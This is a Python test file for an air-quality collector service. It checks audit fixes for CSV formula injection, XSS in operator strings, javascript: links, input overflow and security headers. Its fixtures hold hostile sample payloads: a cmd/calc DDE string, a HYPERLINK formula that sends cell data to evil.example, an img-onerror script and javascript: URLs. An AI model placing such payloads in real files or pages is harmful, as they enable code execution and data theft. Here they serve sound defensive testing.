"""The data defects a public audit found, each fixed: Unicode station ids in every download with a
quoted RFC 6266 file name, CSV formula injection neutralised, overflowing numbers and dates
answered 400 with nothing lost, operator strings never live markup or javascript: links,
security headers, 405 with Allow, station ids with '/'."""

import csv
import http.client
import io
import json
import subprocess
import sys
import time
from urllib.parse import quote, unquote

import pytest

from airkit.collect.server import Collector
from airkit.collect.store import Store, iso_of

TOKEN = "defects-token-123"
CJK = "台北-大安"
NOW = int(time.time()) - 3600


def req(c, method, path, body=None, headers=None, port=None):
    """(status, headers with lower-case names, body) of one request on a new connection."""
    conn = http.client.HTTPConnection("127.0.0.1", port or c.port, timeout=30)
    conn.request(method, path, body, headers or {})
    r = conn.getresponse()
    out = r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    conn.close()
    return out


@pytest.fixture(scope="module")
def coll(tmp_path_factory):
    store = Store(tmp_path_factory.mktemp("defects") / "c.sqlite")
    for sid in (CJK, "school/yard", "=evil"):
        store.add_device(sid, "json", TOKEN)
        store.put([{"device": sid, "time": iso_of(NOW - k * 300), "pm25_atm": 5.0 + k, "temp_c": -5.0,
                    "model": "@SUM(1+1)"}
                   for k in range(3)], "airkit_json", {"fw": "+cmd|' /C calc'!A0", "model": "@SUM(1+1)"})
    store.set_station(CJK, name="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", lat=25.03, lon=121.54)
    c = Collector(store, "127.0.0.1", 0, settings={
        "tiles_attribution": "<img src=x onerror=alert(1)>", "licence_url": "javascript:alert(1)",
        "attribution": "<b>school</b>"}).start()
    yield c
    c.stop()


def _cd_name(header):
    assert header.startswith('attachment; filename="') and "filename*=UTF-8''" in header, header
    ascii_part = header.split('filename="', 1)[1].split('"', 1)[0]
    assert ascii_part.isascii() and ascii_part
    return unquote(header.split("filename*=UTF-8''", 1)[1])


@pytest.mark.parametrize("every", ["raw", "hourly", "daily"])
def test_unicode_station_ids_in_every_download(coll, every):
    st, h, body = req(coll, "GET", "/api/v1/stations/%s/history?format=csv&every=%s" % (quote(CJK), every))
    assert st == 200, body
    assert _cd_name(h["content-disposition"]) == "%s-%s.csv" % (CJK, every)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    assert rows and rows[-1]["pm25_atm"]
    st, h, body = req(coll, "GET", "/api/v1/stations/%s/history?every=%s" % (quote(CJK), every))
    assert st == 200 and json.loads(body)["station"] == CJK


def test_unicode_ids_in_latest_csv_and_station_page(coll):
    st, h, body = req(coll, "GET", "/api/v1/latest?format=csv")
    assert st == 200 and _cd_name(h["content-disposition"]) == "latest.csv"
    assert CJK in body.decode("utf-8")
    st, h, body = req(coll, "GET", "/api/v1/stations/" + quote(CJK))
    assert st == 200 and json.loads(body)["id"] == CJK


def test_csv_cells_are_neutralised_as_owasp_describes(coll):
    st, h, body = req(coll, "GET", "/api/v1/latest?format=csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body.decode("utf-8")))}
    assert rows["'=evil"]["fw"] == "'+cmd|' /C calc'!A0" and rows["'=evil"]["model"] == "'@SUM(1+1)"
    assert rows[CJK]["name"].startswith("'=HYPERLINK(")
    assert rows[CJK]["temp_c"] == "-5.0"                            # numbers stay numbers, negative too
    for r in rows.values():
        for v in r.values():
            assert not v or v[0] not in "=+@\t\r" and not (v[0] == "-" and not v[1:2].isdigit())


def test_cli_export_neutralises_and_writes_unicode(coll, tmp_path):
    out = tmp_path / "x.csv"
    r = subprocess.run([sys.executable, "-m", "airkit.cli", "collect", "--db", coll.store.path, "export", "--out",
                        str(out)], capture_output=True, text=True, timeout=60, env={"LC_ALL": "C", "PATH": ""})
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(open(out, encoding="utf-8")))
    assert {r["device"] for r in rows} == {CJK, "school/yard", "'=evil"}
    assert all(r["model"] == "'@SUM(1+1)" for r in rows)


def test_overflowing_numbers_and_dates_are_400_and_nothing_is_lost(coll):
    auth = {"Authorization": "Bearer " + TOKEN}
    before = coll.store.count()

    def batch(**extra):
        d = {"device": "school/yard", "records": [{"time": iso_of(NOW + 60), "pm25_atm": 7.0}]}
        d.update(extra)
        return json.dumps(d)

    for bad in (batch(pending=2 ** 63), batch(pending=-1), batch(pending=10 ** 30)):
        st, h, body = req(coll, "POST", "/api/v1/batch", bad, auth)
        assert st == 400 and b"pending" in body, body
    assert coll.store.count() == before                              # nothing half-stored
    big = json.dumps({"device": "school/yard", "records": [{"time": iso_of(NOW + 120), "pm25_atm": 2 ** 63,
                                                            "rh": 10 ** 30}]})
    st, h, body = req(coll, "POST", "/api/v1/batch", big, auth)      # kept with the refused values flagged
    assert st == 200 and json.loads(body)["accepted"] == 1
    huge = json.dumps({"device": "school/yard", "records": [{"time": iso_of(NOW + 180), "rh": 10 ** 400}]})
    assert req(coll, "POST", "/api/v1/batch", huge, auth)[0] == 400     # too big even for a float
    st, h, body = req(coll, "POST", "/api/v1/batch", batch(pending=12), auth)
    assert st == 200 and coll.store.count() == before + 2            # the service still works
    for q in ("from=0001-01-01T00:00:00%2B14:00", "to=0001-01-01T00:00:00%2B14:00",
              "from=9999-12-31T23:59:59-14:00", "from=2026-01-01T00:00:00Z&to=9999-12-31T23:59:59-14:00",
              "from=-99999-01-01"):
        st, h, body = req(coll, "GET", "/api/v1/stations/%s/history?%s" % (quote(CJK), q))
        assert st == 400 and "ISO 8601" in json.loads(body)["detail"], (q, body)
    st, h, body = req(coll, "POST", "/api/v1/batch", json.dumps(
        {"device": "school/yard", "records": [{"time": "0001-01-01T00:00:00+14:00", "pm25_atm": 1.0}]}), auth)
    assert st == 400


def test_operator_strings_are_text_and_links_are_http_only(coll, tmp_path):
    cfg = json.loads(req(coll, "GET", "/api/v1/config")[2])
    assert cfg["licence_url"] == ""                                  # javascript: never reaches the page
    js = req(coll, "GET", "/static/app.js")[2].decode()
    assert "escapeHtml(state.config.tiles_attribution" in js and "safeHref(cfg.licence_url)" in js
    docs = req(coll, "GET", "/api/docs")[2].decode()
    assert "<b>school</b>" not in docs and "&lt;b&gt;school" in docs
    for opt, val in (("--licence-url", "javascript:alert(1)"), ("--licence-url", "data:text/html,x"),
                     ("--tiles", "javascript:alert(1)/{z}/{x}/{y}")):
        r = subprocess.run([sys.executable, "-m", "airkit.cli", "collect", "--db", str(tmp_path / "c.sqlite"),
                            "--port", "0", opt, val], capture_output=True, text=True, timeout=60)
        assert r.returncode == 2 and opt in r.stderr and "Traceback" not in r.stderr, r.stderr


@pytest.mark.parametrize("path", ["/", "/api/v1/latest", "/static/app.js", "/api/docs", "/no/such/page"])
def test_security_headers_on_every_answer(coll, path):
    st, h, body = req(coll, "GET", path)
    csp = h["content-security-policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp.split("script-src", 1)[1].split(";")[0]
    assert "https://tile.openstreetmap.org" in csp                  # the tile server's images only
    assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY"
    assert h["referrer-policy"] == "strict-origin-when-cross-origin"


def test_wrong_method_is_405_with_allow(coll):
    st, h, body = req(coll, "GET", "/api/v1/batch")
    assert st == 405 and "POST" in h["allow"] and "not allowed" in json.loads(body)["detail"]
    st, h, body = req(coll, "POST", "/api/v1/latest", b"{}", {"Content-Length": "2"})
    assert st == 405 and "GET" in h["allow"]
    st, h, body = req(coll, "DELETE", "/v1/push-sensor-data/")
    assert st == 405 and h["allow"] == "POST"


def test_station_ids_with_a_slash(coll):
    sid = quote("school/yard", safe="")
    st, h, body = req(coll, "GET", "/api/v1/stations/%s" % sid)
    assert st == 200 and json.loads(body)["id"] == "school/yard"
    st, h, body = req(coll, "GET", "/api/v1/stations/%s/history?every=hourly" % sid)
    assert st == 200 and json.loads(body)["station"] == "school/yard" and json.loads(body)["readings"]
    st, h, body = req(coll, "GET", "/api/v1/stations/%s/history?format=csv" % sid)
    assert st == 200 and _cd_name(h["content-disposition"]) == "school/yard-raw.csv"


def test_dashboard_in_chromium_under_the_csp_with_hostile_operator_strings(coll):
    """The page works under its own Content-Security-Policy (no violation in the console), the tile
    attribution is shown as text (no element from it), the javascript: licence is no link, and a
    station whose id holds '/' opens with its charts."""
    from browser_helpers import chromium_paths, quit_browser, screenshot, start_browser, wait_for

    if None in chromium_paths():
        pytest.skip("chromium and chromedriver are not installed")
    d = start_browser()
    try:
        d.get(coll.url)
        wait_for(d, "document.body.getAttribute('data-ready') == '1'")
        wait_for(d, "document.querySelector('.leaflet-control-attribution') !== null")
        attr = d.execute_script("var a = document.querySelector('.leaflet-control-attribution');"
                                "return [a.textContent, a.querySelectorAll('img').length];")
        assert "<img src=x onerror=alert(1)>" in attr[0] and attr[1] == 0
        assert d.execute_script("return Array.from(document.querySelectorAll('#footer a'))"
                                ".every(function (a) { return /^https?:|^\\//.test(a.getAttribute('href')); })")
        d.get(coll.url + "#/station/" + quote("school/yard", safe=""))
        wait_for(d, "document.querySelectorAll('#charts svg').length > 0")
        screenshot(d, "dashboard-slash-id.png")
        logs = [e["message"] for e in d.get_log("browser")]
        assert not [m for m in logs if "Content Security Policy" in m], logs
    finally:
        quit_browser(d)
